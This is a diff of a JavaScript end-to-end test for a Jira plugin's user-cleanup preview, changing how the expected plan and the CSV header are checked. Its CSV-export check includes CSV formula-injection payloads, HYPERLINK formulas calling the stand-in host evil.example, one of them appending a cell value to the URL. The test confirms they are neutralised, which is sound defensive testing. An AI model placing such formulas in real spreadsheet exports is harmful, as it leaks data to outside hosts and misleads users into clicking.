@@ -91,8 +91,12 @@ async function openView(page, view, query = '') {
 async function expectedPlan(policy = POLICY) {
   const engine = await import(new URL('plugin-shim/src/engine.mjs', ROOT).href);
   const { createJiraHost } = await import(new URL('plugin-shim/src/host/index.mjs', ROOT).href);
-  const snap = await createJiraHost({ baseUrl: sb.url, token: sb.token }).snapshot();
-  const plan = JSON.parse(engine.planJson(policy, JSON.stringify(snap), JSON.stringify({ asOf: snap.capturedAt, actor: 'admin' })));
+  // As the page reads it: creation dates from the audit log, open issues counted for the planned users.
+  const host = createJiraHost({ baseUrl: sb.url, token: sb.token });
+  const snap = await host.snapshot({ creationDates: true });
+  const policyText = typeof policy === 'string' ? policy : JSON.stringify(policy);
+  const { result } = await host.planWithOpenAssigned({ engine, policyText, snapshot: snap, options: { asOf: snap.capturedAt, actor: 'admin' } });
+  const plan = typeof result === 'string' ? JSON.parse(result) : result;
   assert.equal(plan.type, 'success');
   return plan.value;
 }
@@ -177,7 +181,8 @@ test('preview: the sample policy\u2019s plan as the engine makes it; filter, sea
   // CSV export of the filtered rows: formulas neutralised, quoting right.
   const csv = await downloaded(page, () => page.click('#uc-export-csv'));
   const lines = csv.text.split('\r\n');
-  assert.equal(lines[0], 'user,display_name,email,rule,action,groups,reasons,last_login,days_inactive,created,matched_groups,email_domain,directory');
+  // The plan's columns, then the impact columns (and any added later, e.g. warnings).
+  assert.ok(lines[0].startsWith('user,display_name,email,rule,action,groups,reasons,last_login,days_inactive,created,matched_groups,email_domain,directory,status,blocked_reason,handover,leads,open_assigned'), lines[0]);
   const m0 = lines.find((l) => l.startsWith('mallory0,'));
   assert.ok(m0.includes(`"'=HYPERLINK(""http://evil.example/"",""Click me"")"`), m0);
   assert.ok(m0.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")@evil-<b>bold</b>.example"`), m0);
